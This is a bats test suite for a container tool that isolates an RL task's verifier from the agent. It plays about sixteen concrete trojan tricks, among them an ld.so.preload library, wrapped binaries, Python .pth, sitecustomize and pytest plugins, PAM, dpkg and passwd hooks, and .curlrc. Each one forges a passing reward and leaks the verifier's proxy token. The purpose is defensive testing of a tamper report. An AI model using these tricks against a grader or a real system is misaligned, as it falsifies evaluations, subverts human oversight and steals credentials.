#!/usr/bin/env bats
# The verifier's base (policy verifier.base, verifier.base_paths) and the
# tamper report of `proctor rollout status` (SPEC section 2, "A trusted
# base" and "A tamper report"; issue 15), through podman with a bookworm
# task image that has python3, pytest and curl.
#
# Each of the ten tool tricks of issue 15 is played by a root agent on an
# unsolvable task (/work/answer must hold 42; nobody writes it).  Every
# trojan does the same thing when it runs inside the verifier: it writes
# reward 1 and copies the verifier's environment (its proxy token
# included) to /tmp, where the agent reads it.  Under `base: rollout`
# (today's behaviour) each trick wins, which proves the trick is real, and
# the tamper report names its path; under `base: image` the verifier runs
# the image's tools: reward 0, no leaked environment.

load helpers

BASE_IMAGE=localhost/proctor/rollout-base-task

setup_file() {
	[ -x "${PROCTOR:-}" ] || return 1
	podman image exists "$BASE_IMAGE" && return 0
	local ctx
	ctx=$(mktemp -d)
	# apt through the host's network namespace: the build is the test
	# fixture, not the rollout under test.
	cat >"$ctx/Containerfile" <<'CF'
FROM localhost/proctor/bookworm
RUN apt-get update -q >/dev/null \
 && DEBIAN_FRONTEND=noninteractive apt-get install -y -q --no-install-recommends python3-pytest curl >/dev/null \
 && rm -rf /var/lib/apt/lists/* \
 && useradd -m -u 1000 -s /bin/sh agent && mkdir -p /work && chown agent:agent /work
WORKDIR /work
CF
	ENGINE_TIMEOUT=600 pm build --network host -q -t "$BASE_IMAGE" "$ctx" >&3
	rm -rf "$ctx"
}

# The trojans' payload, as shell: only the verifier can write
# /logs/verifier (hidden from the agent).
PAYLOAD='{ [ -d /logs/verifier ] && echo 1 > /logs/verifier/reward.txt && env > /tmp/leak-$$; } 2>/dev/null'

# write_task BASE: the host side of the task (tests, verdict dir, policy
# with verifier.base BASE).  The verifier has a proxy token (allowlist).
write_task() {
	mkdir -p "$TEST_DIR/tests" "$TEST_DIR/verdict"
	cat >"$TEST_DIR/tests/test.sh" <<'SH'
#!/bin/bash
# Runs every tool a verifier typically runs; the reward is 1 only when
# pytest passes, which it cannot (no /work/answer).
cd /
cat /etc/hostname >/dev/null
curl -s file:///etc/hostname >/dev/null
python3 -c pass
bash -c true
which true >/dev/null
perl -e 'use strict; 1'
runuser -u agent -- true
su -c id >/dev/null
dpkg --configure -a
python3 -m pytest -q -p no:cacheprovider /tests/test_task.py >/dev/null 2>&1 && echo 1 > /logs/verifier/reward.txt
exit 0
SH
	printf 'def test_answer():\n    assert open("/work/answer").read().strip() == "42"\n' >"$TEST_DIR/tests/test_task.py"
	chmod +x "$TEST_DIR/tests/test.sh"
	echo 0 >"$TEST_DIR/verdict/reward.txt"
	chmod 0777 "$TEST_DIR/verdict"
	printf '{"version": 1, "agent": {"user": "root"},
	  "verifier": {"user": "root", "base": "%s", "network_mode": "allowlist", "allowed_hosts": ["verifier.test"],
	    "mounts": [{"source": "%s/tests", "destination": "/tests", "readonly": true},
	               {"source": "%s/verdict", "destination": "/logs/verifier"}]}}\n' \
		"$1" "$TEST_DIR" "$TEST_DIR" >"$TEST_DIR/policy.json"
}

start_task() {
	track_name "$NAME"
	run pm run -d --name "$NAME" --annotation "run.proctor.rollout=@$TEST_DIR/policy.json" "$BASE_IMAGE" sleep 1000
	assert_status 0
}

# agent SCRIPT: runs SCRIPT as the agent (root in its user namespace).
agent() {
	run pm exec -i "$NAME" bash -c "$1"
	assert_status 0
}

# The ld.so.preload library: its constructor runs the payload in every
# process of the verifier.
build_preload_lib() {
	cat >"$TEST_DIR/evil.c" <<'C'
#include <stdlib.h>
__attribute__ ((constructor)) static void run (void)
{
  if (getenv ("EVIL_DONE") == NULL)
    {
      setenv ("EVIL_DONE", "1", 1);
      system ("{ [ -d /logs/verifier ] && echo 1 > /logs/verifier/reward.txt && env > /tmp/leak-ldso; } 2>/dev/null");
    }
}
C
	cc -shared -fPIC -o "$TEST_DIR/evil.so" "$TEST_DIR/evil.c"
}

# trick NAME: the agent plays trick NAME; prints the path it plants (for
# the tamper report).
plant() {
	local p=$PAYLOAD
	case $1 in
	ldso)
		build_preload_lib
		run pm exec -i "$NAME" sh -c 'cat > /usr/lib/libevil.so && echo /usr/lib/libevil.so > /etc/ld.so.preload' <"$TEST_DIR/evil.so"
		assert_status 0
		TRICK_PATH=/etc/ld.so.preload
		;;
	bash)
		agent "mv /usr/bin/bash /usr/bin/bash.real && printf '#!/usr/bin/bash.real\n%s\nexec /usr/bin/bash.real \"\$@\"\n' '$p' > /usr/bin/bash && chmod 755 /usr/bin/bash"
		TRICK_PATH=/usr/bin/bash
		;;
	python3 | cat | curl)
		agent "printf '#!/bin/sh\n%s\nexec /usr/bin/$1 \"\$@\"\n' '$p' > /usr/local/bin/$1 && chmod 755 /usr/local/bin/$1"
		TRICK_PATH=/usr/local/bin/$1
		;;
	pth)
		agent "echo 'import os; os.system(\"\"\"$p\"\"\")' > /usr/lib/python3/dist-packages/zz-evil.pth"
		TRICK_PATH=/usr/lib/python3/dist-packages/zz-evil.pth
		;;
	sitecustomize)
		# Debian's interpreter imports /usr/lib/python3.11/sitecustomize.py
		# (a link into /etc/python3.11) before any in dist-packages; the
		# agent writes the one that is imported.
		agent "t=/usr/lib/python3/dist-packages/sitecustomize.py; [ -e /usr/lib/python3.11/sitecustomize.py ] && t=\$(readlink -f /usr/lib/python3.11/sitecustomize.py); echo 'import os; os.system(\"\"\"$p\"\"\")' >> \$t; echo \$t > /tmp/site-target"
		run pm exec "$NAME" cat /tmp/site-target
		TRICK_PATH=$output
		;;
	conftest)
		agent "printf 'import os\ndef pytest_sessionstart(session):\n    os.system(\"\"\"%s\"\"\")\n' '$p' > /conftest.py"
		TRICK_PATH=/conftest.py
		;;
	pytest11)
		agent "d=/usr/lib/python3/dist-packages; mkdir -p \$d/evilplug-1.0.dist-info && printf 'Metadata-Version: 2.1\nName: evilplug\nVersion: 1.0\n' > \$d/evilplug-1.0.dist-info/METADATA && printf '[pytest11]\nevil = evilplug\n' > \$d/evilplug-1.0.dist-info/entry_points.txt && echo 'import os; os.system(\"\"\"$p\"\"\")' > \$d/evilplug.py"
		TRICK_PATH=/usr/lib/python3/dist-packages/evilplug-1.0.dist-info/entry_points.txt
		;;
	alternatives)
		# /usr/bin/which is a link into /etc/alternatives (debianutils).
		agent "printf '#!/bin/sh\n%s\nexec /usr/bin/which.debianutils \"\$@\"\n' '$p' > /tmp/w && chmod 755 /tmp/w && ln -sfn /tmp/w /etc/alternatives/which"
		TRICK_PATH=/etc/alternatives/which
		;;
	perl)
		# Debian's perl looks in /etc/perl first (absent from minbase).
		agent "mkdir -p /etc/perl && printf 'package strict; system(q{%s}); sub import {} sub unimport {} 1;\n' '$p' > /etc/perl/strict.pm"
		TRICK_PATH=/etc/perl/strict.pm
		;;
	pam)
		# pam_exec in runuser's session stack: the program runs as root in
		# every runuser of the verifier.
		agent "printf '#!/bin/sh\n%s\n' '$p' > /tmp/pam-evil && chmod 755 /tmp/pam-evil && echo 'session optional pam_exec.so /tmp/pam-evil' >> /etc/pam.d/runuser"
		TRICK_PATH=/etc/pam.d/runuser
		;;
	login)
		# su's own config: with ALWAYS_SET_PATH, ENV_SUPATH is the PATH of
		# every `su -c CMD` (and `runuser -u root CMD`) of the verifier.
		agent "mkdir -p /tmp/eb && printf '#!/bin/sh\n%s\nexec /usr/bin/id \"\$@\"\n' '$p' > /tmp/eb/id && chmod 755 /tmp/eb/id && printf 'ENV_SUPATH PATH=/tmp/eb:/usr/sbin:/usr/bin:/sbin:/bin\nALWAYS_SET_PATH yes\n' >> /etc/login.defs"
		TRICK_PATH=/etc/login.defs
		;;
	loginshell)
		# root's login shell in /etc/passwd: `su -c CMD` runs it, as root.
		agent "printf '#!/bin/sh\n%s\nexec /bin/sh \"\$@\"\n' '$p' > /tmp/evilsh && chmod 755 /tmp/evilsh && sed -i 's#^root:\\(.*\\):[^:]*\$#root:\\1:/tmp/evilsh#' /etc/passwd && grep -q '^root:.*:/tmp/evilsh\$' /etc/passwd"
		TRICK_PATH=/etc/passwd
		;;
	loginshellcolon)
		# The same, with a shell path holding a colon: glibc's shell is the
		# rest of the line, an eighth field to a strict parser.
		agent "printf '#!/bin/sh\n%s\nexec /bin/sh \"\$@\"\n' '$p' > '/tmp/ev:il' && chmod 755 '/tmp/ev:il' && sed -i 's#^root:.*#root:x:0:0:root:/root:/tmp/ev:il#' /etc/passwd"
		TRICK_PATH=/etc/passwd
		;;
	dpkg)
		# dpkg's own config: a pre-invoke hook runs as root before every
		# dpkg call of the verifier that may change its database.
		agent "printf '#!/bin/sh\n%s\n' '$p' > /tmp/dpkg-evil && chmod 755 /tmp/dpkg-evil && echo 'pre-invoke=/tmp/dpkg-evil' > /etc/dpkg/dpkg.cfg.d/zz-agent"
		TRICK_PATH=/etc/dpkg/dpkg.cfg.d/zz-agent
		;;
	curlrc)
		agent "echo 1 > /tmp/one && printf 'url = \"file:///tmp/one\"\noutput = \"/logs/verifier/reward.txt\"\n' > /root/.curlrc"
		TRICK_PATH=/root/.curlrc
		;;
	esac
}

run_verifier() {
	run pm exec -e PROCTOR_PHASE=verifier "$NAME" /tests/test.sh
	assert_status 0
	REWARD=$(cat "$TEST_DIR/verdict/reward.txt")
	run pm exec "$NAME" sh -c 'cat /tmp/leak-* 2>/dev/null; true'
	LEAK=$output
}

status_json() { "$PROCTOR" rollout status "$(podman inspect -f '{{.Id}}' "$NAME")"; }

# One test per trick and base, so a failure names both.
@test "base rollout: trick ldso wins (the trick is real) and the tamper report names it" { trick_rollout ldso; }
@test "base image: trick ldso gives reward 0 and leaks no token" { trick_image ldso; }
@test "base rollout: trick bash wins (the trick is real) and the tamper report names it" { trick_rollout bash; }
@test "base image: trick bash gives reward 0 and leaks no token" { trick_image bash; }
@test "base rollout: trick python3 wins (the trick is real) and the tamper report names it" { trick_rollout python3; }
@test "base image: trick python3 gives reward 0 and leaks no token" { trick_image python3; }
@test "base rollout: trick cat wins (the trick is real) and the tamper report names it" { trick_rollout cat; }
@test "base image: trick cat gives reward 0 and leaks no token" { trick_image cat; }
@test "base rollout: trick curl wins (the trick is real) and the tamper report names it" { trick_rollout curl; }
@test "base image: trick curl gives reward 0 and leaks no token" { trick_image curl; }
@test "base rollout: trick pth wins (the trick is real) and the tamper report names it" { trick_rollout pth; }
@test "base image: trick pth gives reward 0 and leaks no token" { trick_image pth; }
@test "base rollout: trick sitecustomize wins (the trick is real) and the tamper report names it" { trick_rollout sitecustomize; }
@test "base image: trick sitecustomize gives reward 0 and leaks no token" { trick_image sitecustomize; }
@test "base rollout: trick conftest wins (the trick is real) and the tamper report names it" { trick_rollout conftest; }
@test "base image: trick conftest gives reward 0 and leaks no token" { trick_image conftest; }
@test "base rollout: trick pytest11 wins (the trick is real) and the tamper report names it" { trick_rollout pytest11; }
@test "base image: trick pytest11 gives reward 0 and leaks no token" { trick_image pytest11; }
@test "base rollout: trick alternatives wins (the trick is real) and the tamper report names it" { trick_rollout alternatives; }
@test "base image: trick alternatives gives reward 0 and leaks no token" { trick_image alternatives; }
@test "base rollout: trick perl wins (the trick is real) and the tamper report names it" { trick_rollout perl; }
@test "base image: trick perl gives reward 0 and leaks no token" { trick_image perl; }
@test "base rollout: trick curlrc wins (the trick is real) and the tamper report names it" { trick_rollout curlrc; }
@test "base image: trick curlrc gives reward 0 and leaks no token" { trick_image curlrc; }
@test "base rollout: trick pam wins (the trick is real) and the tamper report names it" { trick_rollout pam; }
@test "base image: trick pam gives reward 0 and leaks no token" { trick_image pam; }
@test "base rollout: trick login wins (the trick is real) and the tamper report names it" { trick_rollout login; }
@test "base image: trick login gives reward 0 and leaks no token" { trick_image login; }
@test "base rollout: trick loginshell wins (the trick is real) and the tamper report names it" { trick_rollout loginshell; }
@test "base image: trick loginshell gives reward 0 and leaks no token" { trick_image loginshell; }
@test "base rollout: trick loginshellcolon wins (the trick is real) and the tamper report names it" { trick_rollout loginshellcolon; }
@test "base image: trick loginshellcolon gives reward 0 and leaks no token" { trick_image loginshellcolon; }
@test "base rollout: trick dpkg wins (the trick is real) and the tamper report names it" { trick_rollout dpkg; }
@test "base image: trick dpkg gives reward 0 and leaks no token" { trick_image dpkg; }

trick_rollout() {
	need_image bookworm
	write_task rollout
	start_task
	plant "$1"
	run_verifier
	[ "$REWARD" = 1 ] || fail_with "trick $1 did not win under base rollout (reward $REWARD)"
	[ "$1" = curlrc ] || [ "$1" = pam ] || grep -q '^http_proxy=http://.*@' <<<"$LEAK" || fail_with "no token leaked: $LEAK"
	run status_json
	assert_status 0
	jq -e --arg p "$TRICK_PATH" '.tamper.base == "rollout" and .tamper.source == "overlay-upper" and .tamper.tampered
	  and .tamper.complete and any(.tamper.changes[]; .path == $p)' <<<"$output" >/dev/null ||
		fail_with "$TRICK_PATH not in the report: $(jq -c .tamper <<<"$output")"
}

trick_image() {
	need_image bookworm
	write_task image
	start_task
	plant "$1"
	run_verifier
	[ "$REWARD" = 0 ] || fail_with "trick $1 won under base image (reward $REWARD)"
	[ -z "$LEAK" ] || fail_with "the verifier's environment leaked: $LEAK"
	run status_json
	jq -e --arg p "$TRICK_PATH" '.tamper.base == "image" and any(.tamper.changes[]; .path == $p)' <<<"$output" >/dev/null ||
		fail_with "$TRICK_PATH not in the report: $(jq -c .tamper <<<"$output")"
}

# The agent moves root's home into its own directory and plants a .pth in
# that home's user site-packages (python reads ~/.local/lib/python3.X).
plant_home() {
	agent "sed -i 's#:/root:#:/work:#' /etc/passwd && d=/work/.local/lib/\$(python3 -c 'import sys; print(\"python%d.%d\" % sys.version_info[:2])')/site-packages && mkdir -p \$d && echo 'import os; os.system(\"\"\"$PAYLOAD\"\"\")' > \$d/zz.pth"
}

@test "base rollout: root's home moved by the agent in /etc/passwd wins (the trick is real)" {
	need_image bookworm
	write_task rollout
	start_task
	plant_home
	run_verifier
	[ "$REWARD" = 1 ] || fail_with "the home trick did not win under base rollout (reward $REWARD)"
}

@test "base image: root's home moved by the agent in /etc/passwd gives reward 0 (HOME from the image's passwd)" {
	need_image bookworm
	write_task image
	start_task
	plant_home
	run_verifier
	[ "$REWARD" = 0 ] || fail_with "the home trick won under base image (reward $REWARD)"
	[ -z "$LEAK" ] || fail_with "the verifier's environment leaked: $LEAK"
	run pm exec -e PROCTOR_PHASE=verifier "$NAME" sh -c 'echo $HOME'
	[ "$output" = /root ] || fail_with "verifier HOME: $output"
}

@test "base image: the verifier's writes to base paths stay in its private layer" {
	need_image bookworm
	write_task image
	start_task
	run pm exec -e PROCTOR_PHASE=verifier "$NAME" sh -c 'echo v > /usr/bin/verifier-tool && echo v > /usr/local/bin/vt && rm /usr/bin/yes && cat /usr/bin/verifier-tool'
	assert_status 0
	[ "$output" = v ] || fail_with "$output"
	run pm exec "$NAME" sh -c 'ls /usr/bin/verifier-tool /usr/local/bin/vt 2>&1; ls /usr/bin/yes'
	assert_status 0
	grep -q 'verifier-tool.*No such file' <<<"$output" || fail_with "$output"
	grep -q 'vt.*No such file' <<<"$output" || fail_with "$output"
	grep -q '^/usr/bin/yes$' <<<"$output" || fail_with "$output"
	run status_json
	jq -e '.tamper.tampered == false and .tamper.complete' <<<"$output" >/dev/null || fail_with "$(jq -c .tamper <<<"$output")"
}

@test "base image: the agent's live files outside the base paths are the verifier's" {
	need_image bookworm
	write_task image
	start_task
	agent 'echo 42 > /work/answer && echo agent-etc > /etc/agent-note && rm /usr/bin/yes'
	run pm exec -e PROCTOR_PHASE=verifier "$NAME" sh -c 'cat /work/answer /etc/agent-note; ls /usr/bin/yes'
	assert_status 0
	[ "$output" = "$(printf '42\nagent-etc\n/usr/bin/yes')" ] || fail_with "$output"
}

# deb_package DIR NAME: a tiny .deb NAME that installs /usr/bin/NAME.
deb_package() {
	local d=$1/$2
	mkdir -p "$d/DEBIAN" "$d/usr/bin"
	printf 'Package: %s\nVersion: 1.0\nArchitecture: all\nMaintainer: tests <tests@localhost>\nDescription: test\n' "$2" >"$d/DEBIAN/control"
	printf '#!/bin/sh\necho %s-ran\n' "$2" >"$d/usr/bin/$2"
	chmod 755 "$d/usr/bin/$2"
	dpkg-deb -b --root-owner-group "$d" "$1/$2.deb" >/dev/null
}

# dpkg -i of locally built packages, not apt through the mirror: the same
# dpkg database (/var/lib/dpkg, live) and /usr (image) writes, without the
# network in the test.
@test "base image: a package the agent installs does not break one the verifier installs" {
	need_image bookworm
	write_task image
	deb_package "$TEST_DIR" agenttool
	deb_package "$TEST_DIR" vertool
	cp "$TEST_DIR/vertool.deb" "$TEST_DIR/tests/"
	start_task
	run pm exec -i "$NAME" sh -c 'cat > /tmp/a.deb && dpkg -i /tmp/a.deb >/dev/null && agenttool' <"$TEST_DIR/agenttool.deb"
	assert_status 0
	[ "$output" = agenttool-ran ] || fail_with "$output"
	run pm exec -e PROCTOR_PHASE=verifier "$NAME" sh -c 'dpkg -i /tests/vertool.deb >/dev/null && vertool && dpkg -s vertool | grep Status'
	assert_status 0
	[ "$(sed -n 1p <<<"$output")" = vertool-ran ] || fail_with "$output"
	run pm exec "$NAME" sh -c 'command -v vertool || echo no-vertool; agenttool'
	[ "$output" = "$(printf 'no-vertool\nagenttool-ran')" ] || fail_with "$output"
}

@test "base: bad verifier.base / base_paths values fail create naming the field and leave nothing" {
	need_image bookworm
	local i=0 entry want
	for entry in \
		'verifier.base|{"version": 1, "verifier": {"base": "host"}}' \
		'verifier.base|{"version": 1, "verifier": {"base": 1}}' \
		'verifier.base_paths[0]|{"version": 1, "verifier": {"base_paths": ["usr"]}}' \
		'verifier.base_paths[1]|{"version": 1, "verifier": {"base_paths": ["/usr", "/usr/"]}}' \
		'verifier.base_paths[0]|{"version": 1, "verifier": {"base_paths": ["/"]}}' \
		'verifier.base_paths[0]|{"version": 1, "verifier": {"base_paths": ["/proc/x"]}}' \
		'verifier.base_paths|{"version": 1, "verifier": {"base_paths": "/usr"}}'; do
		i=$((i + 1))
		want=${entry%%|*}
		printf '%s\n' "${entry#*|}" >"$TEST_DIR/bad$i.json"
		create_must_fail_podman "$NAME-$i" "$TEST_DIR/bad$i.json" "$want"
	done
}

# create_must_fail_podman NAME POLICY WANT: start fails with a policy
# error naming WANT, leaving no state dir, cgroup or mount.
create_must_fail_podman() {
	local id
	track_name "$1"
	run pm create --name "$1" --annotation "run.proctor.rollout=@$2" "$BASE_IMAGE" sleep 1000
	assert_status 0
	id=$(podman inspect -f '{{.Id}}' "$1")
	run pm start "$1"
	[ "$status" -ne 0 ] || fail_with "$2 was accepted"
	grep -qF -- "$3" <<<"$output" || fail_with "wanted '$3' in: $output"
	[ ! -e "/run/proctor/$id" ] || fail_with "$2 left a state dir"
	! ls -d /sys/fs/cgroup/*/libpod_parent/libpod-"$id"* 2>/dev/null | grep -q . || fail_with "$2 left a cgroup"
	! grep -qF "$id" /proc/self/mountinfo || fail_with "$2 left a mount naming the container"
	pm rm -f "$1" >/dev/null
}

# Config files that tools the verifier may run read on their own (pip, uv,
# ssh, apt, pytest), which the task image here lacks the tools for: the
# agent writes each, and the verifier must not read the agent's content
# under base image (it does under base rollout: the check can fail), and
# the tamper report lists each under both.
CONFIG_POINTS="/etc/xdg/pip/pip.conf /etc/uv/uv.toml /etc/ssh/ssh_config.d/zz.conf /root/.config/uv/uv.toml /root/.ssh/config /etc/apt/apt.conf.d/00agent /.pytest.ini"

config_points_seen() {
	write_task "$1"
	start_task
	agent "for f in $CONFIG_POINTS; do mkdir -p \$(dirname \$f) && echo AGENT > \$f; done"
	run pm exec -e PROCTOR_PHASE=verifier "$NAME" sh -c "for f in $CONFIG_POINTS; do echo \"\$f \$(cat \$f 2>/dev/null)\"; done"
	assert_status 0
	SEEN=$output
	run status_json
	assert_status 0
	local f
	for f in $CONFIG_POINTS; do
		jq -e --arg p "$f" 'any(.tamper.changes[]; .path == $p and .class != "base")' <<<"$output" >/dev/null ||
			fail_with "$f not in the report: $(jq -c .tamper.changes <<<"$output")"
	done
}

@test "base rollout: the agent's pip, uv, ssh, apt and pytest config reach the verifier, and the tamper report names them" {
	need_image bookworm
	config_points_seen rollout
	[ "$(grep -c ' AGENT$' <<<"$SEEN")" = 7 ] || fail_with "the verifier saw: $SEEN"
}

@test "base image: the agent's pip, uv, ssh, apt and pytest config do not reach the verifier, and the tamper report names them" {
	need_image bookworm
	config_points_seen image
	! grep -q 'AGENT' <<<"$SEEN" || fail_with "the verifier read the agent's config: $SEEN"
}
